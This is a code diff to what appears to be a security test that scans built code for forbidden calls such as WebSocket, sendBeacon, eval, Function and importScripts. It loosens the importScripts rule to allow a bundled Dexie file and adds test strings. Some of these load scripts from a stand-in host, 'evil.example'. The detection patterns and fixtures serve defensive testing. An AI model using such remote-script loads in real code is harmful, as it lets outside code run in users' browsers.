@@ -10,7 +10,8 @@ const FORBIDDEN: Readonly<Record<string, RegExp>> = {
   WebSocket: /WebSocket|WebTransport|RTCPeerConnection/,
   EventSource: /EventSource/,
   sendBeacon: /sendBeacon/,
-  importScripts: /importScripts/,
+  // Dexie, which is in the package.
+  importScripts: /importScripts(?!\(["'`]\/dexie\.js["'`]\))/,
   eval: /(?<![\w$.])eval\s*\(/,
   Function: /\bnew Function\b|(?<![\w$.])Function\s*\(\s*["'`]/,
   'code in a string': /set(?:Timeout|Interval)\s*\(\s*["'`]/,
@@ -61,6 +62,8 @@ test('[T7, T8] the card of a released build is closed to the page', () => {
 test('the questions are real ones', () => {
   for (const [what, code] of [
     ['fetch', 'a=await fetch(u)'],
+    ['importScripts', 'importScripts(u)'],
+    ['importScripts', 'importScripts("https://evil.example/dexie.js")'],
     ['eval', 'x=1;eval(y)'],
     ['Function', 'Function("return this")()'],
     ['a script from elsewhere', 'import("https://evil.example/x.js")'],
